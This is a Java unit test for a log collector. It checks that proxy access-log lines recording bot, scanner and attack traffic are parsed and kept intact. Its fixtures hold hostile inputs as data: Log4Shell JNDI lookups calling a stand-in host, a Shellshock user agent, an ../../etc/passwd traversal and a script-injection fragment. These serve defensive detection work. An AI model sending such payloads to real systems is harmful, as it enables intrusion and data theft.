package dev.weir.collector.format;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.NavigableMap;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// What bots, scanners and attackers send, as proxies log it: never rejected, for it is what an
/// attack detector looks for.
class AttackLinesTest {
    /// What a client sent where a request line should be, and what can be read of it.
    ///
    /// @param line one character per byte
    record Sent(String name, String line, Map<String, String> said) {
        static Sent malformed(String name, String line, String... said) {
            Map<String, String> all = new TreeMap<>(pairs(said));
            all.put("MALFORMED", "");
            all.put("REQUEST_LINE", line);
            return new Sent(name, line, all);
        }

        static Sent request(String name, String line, String... said) {
            return new Sent(name, line, pairs(said));
        }

        private static Map<String, String> pairs(String... said) {
            Map<String, String> pairs = new TreeMap<>();
            for (int index = 0; index < said.length; index += 2) {
                pairs.put(said[index], said[index + 1]);
            }
            return pairs;
        }
    }

    private static final String LONG = "/" + "A%2e".repeat(8_000);

    private static final List<Sent> SENT =
            List.of(
                    Sent.malformed("nothing", ""),
                    Sent.malformed(
                            "a TLS hello",
                            "\u0016\u0003\u0001\u0002\u0000\u0001\u00fc\u0003\u0003\""),
                    Sent.malformed(
                            "remote desktop",
                            "\u0003\u0000\u0000/*\u00e0\u0000\u0000\u0000\u0000\u0000Cookie: mstshash=Administr"),
                    Sent.malformed("SSH", "SSH-2.0-Go"),
                    Sent.malformed(
                            "SMB",
                            "\u0000\u0000\u0000\u0085\u00ffSMBr\u0000\u0000\u0000\u0000\u0018S\u00c8"),
                    Sent.malformed("SOCKS", "\u0005\u0001\u0000"),
                    Sent.malformed("a word", "QUIT"),
                    Sent.malformed("a method alone", "GET ", "METHOD", "GET"),
                    Sent.malformed("spaces alone", "   "),
                    Sent.malformed(
                            "a protocol that is none",
                            "GET /a SIP/2.0",
                            "METHOD",
                            "GET",
                            "PATH",
                            "/a",
                            "PROTOCOL",
                            "SIP/2.0"),
                    Sent.malformed(
                            "a target that is none",
                            "GET ../../etc/passwd HTTP/1.0",
                            "METHOD",
                            "GET",
                            "PATH",
                            "../../etc/passwd",
                            "PROTOCOL",
                            "HTTP/1.0"),
                    Sent.request(
                            "spaces in the target",
                            "GET /a b/c d?q=1 2 HTTP/1.1",
                            "METHOD",
                            "GET",
                            "PATH",
                            "/a b/c d",
                            "QUERY",
                            "q=1 2",
                            "PROTOCOL",
                            "HTTP/1.1"),
                    Sent.request(
                            "log4shell",
                            "GET /?x=${jndi:ldap://${hostName}.x.example/a} HTTP/1.1",
                            "METHOD",
                            "GET",
                            "PATH",
                            "/",
                            "QUERY",
                            "x=${jndi:ldap://${hostName}.x.example/a}",
                            "PROTOCOL",
                            "HTTP/1.1"),
                    Sent.request(
                            "percent signs that escape nothing",
                            "GET /%zz%%%c0%ae%u002e?%=% HTTP/1.1",
                            "METHOD",
                            "GET",
                            "PATH",
                            "/%zz%%%c0%ae%u002e",
                            "QUERY",
                            "%=%",
                            "PROTOCOL",
                            "HTTP/1.1"),
                    Sent.request(
                            "an open proxy's test",
                            "CONNECT mail.example:25 HTTP/1.1",
                            "METHOD",
                            "CONNECT",
                            "PATH",
                            "mail.example:25",
                            "PROTOCOL",
                            "HTTP/1.1"),
                    Sent.request(
                            "quotes and bytes that are no UTF-8",
                            "GET /\"><script>\u00ff\u00c3('\\ HTTP/1.1",
                            "METHOD",
                            "GET",
                            "PATH",
                            "/\"><script>\u00ff\u00c3('\\",
                            "PROTOCOL",
                            "HTTP/1.1"),
                    Sent.request(
                            "a very long target",
                            "GET " + LONG + " HTTP/1.1",
                            "METHOD",
                            "GET",
                            "PATH",
                            LONG,
                            "PROTOCOL",
                            "HTTP/1.1"));

    /// An attacker's user agent, which must not shift what is behind it.
    private static final String AGENT = "() { :; }; \" 200 7 \"-\" \"${jndi:dns://x}\\";

    /// A proxy that logs what was sent.
    record Proxy(String name, String format, String before, String behind, String escaping) {
        @Override
        public String toString() {
            return name;
        }

        String line(Sent sent) {
            return before + escaped(sent.line) + behind.replace("AGENT", escaped(AGENT));
        }

        private String escaped(String text) {
            if (!escaping.startsWith("\\")) {
                return new NginxWriter(escaping, "$x").line(Map.of("x", text));
            }
            StringBuilder escaped = new StringBuilder();
            for (int index = 0; index < text.length(); index++) {
                char each = text.charAt(index);
                boolean plain = each >= 0x20 && each < 0x7F && each != '"' && each != '\\';
                boolean apache = escaping.equals("\\apache") && (each == '"' || each == '\\');
                if (apache) {
                    escaped.append('\\').append(each);
                } else if (plain || (each == '\\' && escaping.equals("\\haproxy"))) {
                    escaped.append(each);
                } else {
                    String digits = escaping.equals("\\apache") ? "\\x%02x" : "#%02X";
                    escaped.append(String.format(digits, (int) each));
                }
            }
            return escaped.toString();
        }
    }

    private static final String COMMON = "198.51.100.9 - - [21/Nov/2026:02:10:20 +0000] \"";

    static Stream<Proxy> proxies() {
        String headers = "\" 400 7 \"-\" \"AGENT\"";
        return Stream.of(
                new Proxy("nginx", "combined", COMMON, headers, "default"),
                new Proxy("nginx main", "main", COMMON, headers + " \"-\"", "default"),
                new Proxy(
                        "ingress-nginx",
                        "ingress-nginx",
                        COMMON,
                        headers + " 0 0.001 [] [] - - - - 4f1c",
                        "default"),
                new Proxy(
                        "nginx json",
                        "json",
                        "{\"time_iso8601\":\"2026-11-21T02:10:20+00:00\",\"remote_addr\":"
                                + "\"198.51.100.9\",\"request\":\"",
                        "\",\"http_user_agent\":\"AGENT\",\"status\":400,\"body_bytes_sent\":7}",
                        "json"),
                new Proxy("Apache", "combined", COMMON, headers, "\\apache"),
                new Proxy(
                        "Apache vhost",
                        "vhost-combined",
                        "www.example:80 " + COMMON,
                        headers,
                        "\\apache"),
                new Proxy("Traefik", "traefik", COMMON, headers + " 3 \"-\" \"-\" 0ms", "\\apache"),
                new Proxy(
                        "HAProxy",
                        "haproxy captures=user-agent",
                        "<134>Nov 21 02:10:20 edge haproxy[7]: 198.51.100.9:4711"
                                + " [21/Nov/2026:02:10:20.000] web web/<NOSRV> -1/-1/-1/-1/0 400 7 - -"
                                + " PR-- 1/1/0/0/0 0/0 {AGENT} \"",
                        "\"",
                        "\\haproxy"));
    }

    private static NavigableMap<String, String> parsed(LineParser parser, String line)
            throws Exception {
        ParsedLine parsed = ParsedLine.of(parser, line.getBytes(StandardCharsets.ISO_8859_1));
        assertEquals(ParseResult.ACCEPTED, parsed.result(), line);
        return RequestFields.of(parsed.reader(), 0);
    }

    @ParameterizedTest
    @MethodSource("proxies")
    void whatWasSentIsKept(Proxy proxy) throws Exception {
        LineParser parser = LogFormat.of(proxy.format).newParser();
        for (Sent sent : SENT) {
            NavigableMap<String, String> said = parsed(parser, proxy.line(sent));
            String name = proxy + ", " + sent.name;
            assertEquals("198.51.100.9", said.remove("CLIENT_ADDRESS"), name);
            assertEquals("1795227020000", said.remove("TIME"), name);
            assertEquals("400", said.remove("STATUS"), name);
            assertEquals("7", said.remove("SENT"), name);
            if (!proxy.name.equals("HAProxy")) {
                assertEquals(AGENT, said.remove("USER_AGENT"), name);
            }
            said.keySet().removeAll(List.of("HOST", "DURATION", "RECEIVED", "USER_AGENT"));
            assertEquals(sent.said, said, name);
        }
    }

    @Test
    void rawBytesAreKeptWhereNothingIsEscaped() throws Exception {
        LineParser parser =
                LogFormat.of(
                                "escape=none $remote_addr - $remote_user [$time_local] \"$request\""
                                        + " $status $body_bytes_sent \"$http_user_agent\"")
                        .newParser();
        for (Sent sent : SENT) {
            String line = COMMON.replace("- -", "- ") + sent.line + "\" 400 7 \"a \"b\" c\"";
            NavigableMap<String, String> said = parsed(parser, line);
            assertEquals("400", said.get("STATUS"), sent.name);
            assertEquals("a \"b\" c", said.get("USER_AGENT"), sent.name);
            assertEquals(sent.said.get("PATH"), said.get("PATH"), sent.name);
            assertEquals(sent.said.containsKey("MALFORMED"), said.containsKey("MALFORMED"));
        }
    }

    /// Proxies that log a request in pieces, or only what they could make of it.
    @Test
    void aRequestInPiecesIsKept() throws Exception {
        LineParser caddy = LogFormat.of("caddy").newParser();
        NavigableMap<String, String> said =
                parsed(
                        caddy,
                        "{\"ts\":1795227020.5,\"request\":{\"remote_ip\":\"198.51.100.9\",\"proto\":"
                                + "\"HTTP/1.1\",\"method\":\"\\u0016\\u0003\",\"host\":\"\",\"uri\":"
                                + "\"/a b\\\"?${jndi:ldap://x}\\ufffd%zz\",\"headers\":{\"User-Agent\":"
                                + "[\"() { :; }; \\\"x\\\"\"]}},\"status\":400,\"size\":0}");
        assertEquals("\u0016\u0003", said.get("METHOD"));
        assertEquals("/a b\"", said.get("PATH"));
        assertEquals("${jndi:ldap://x}\u00ef\u00bf\u00bd%zz", said.get("QUERY"));
        assertEquals("() { :; }; \"x\"", said.get("USER_AGENT"));
        NavigableMap<String, String> traefik =
                parsed(
                        LogFormat.of("traefik-json").newParser(),
                        "{\"StartUTC\":\"2026-11-21T02:10:20Z\",\"RequestMethod\":\"GET\","
                                + "\"RequestPath\":\"no path\",\"DownstreamStatus\":400}");
        assertTrue(traefik.containsKey("MALFORMED"));
        assertEquals("no path", traefik.get("PATH"));
        NavigableMap<String, String> balancer =
                parsed(
                        LogFormat.of("aws-alb").newParser(),
                        "http 2026-11-21T02:10:20.123456Z app/lb/1 198.51.100.9:4711 - -1 -1 -1 400"
                                + " - 0 272 \"- http://lb.example:80- -\" \"-\" - - - \"-\"");
        assertTrue(balancer.containsKey("MALFORMED"));
        assertEquals("400", balancer.get("STATUS"));
        NavigableMap<String, String> squid =
                parsed(
                        LogFormat.of("squid").newParser(),
                        "1795227020.123      0 198.51.100.9 NONE_NONE/400 3588 -"
                                + " error:invalid-request - HIER_NONE/- text/html");
        assertEquals("400", squid.get("STATUS"));
        assertEquals("error:invalid-request", squid.get("PATH"));
    }

    @Test
    void aLineThatSquidCutWithinItsTargetIsKept() throws Exception {
        NavigableMap<String, String> said =
                parsed(
                        LogFormat.of("squid").newParser(),
                        "1795227020.123      1 198.51.100.9 NONE_NONE/400 43599 GET " + LONG);
        assertEquals("400", said.get("STATUS"));
        assertEquals(LONG, said.get("PATH"));
    }

    @Test
    void realProxiesLinesAreRejectedOnlyIfTheyAreNoRequests() throws Exception {
        assumeTrue(OddLines.arePresent(), "there are no lines of real proxies");
        NavigableMap<String, Integer> rejected = new TreeMap<>();
        List<String> wrong = new ArrayList<>();
        int lines = 0;
        for (String server : OddLines.servers()) {
            rejected.put(server, 0);
            for (OddLines.OddLine line : OddLines.of(server)) {
                lines++;
                ParsedLine parsed =
                        ParsedLine.of(LogFormat.of(line.format()).newParser(), line.bytes());
                if (parsed.result() != ParseResult.ACCEPTED) {
                    rejected.merge(server, 1, Integer::sum);
                    wrong.add(line.server() + ", " + line.request() + ": " + line.text());
                }
            }
        }
        assertTrue(lines > 1000, () -> "too few lines");
        assertEquals(List.of(), wrong, rejected::toString);
    }
}
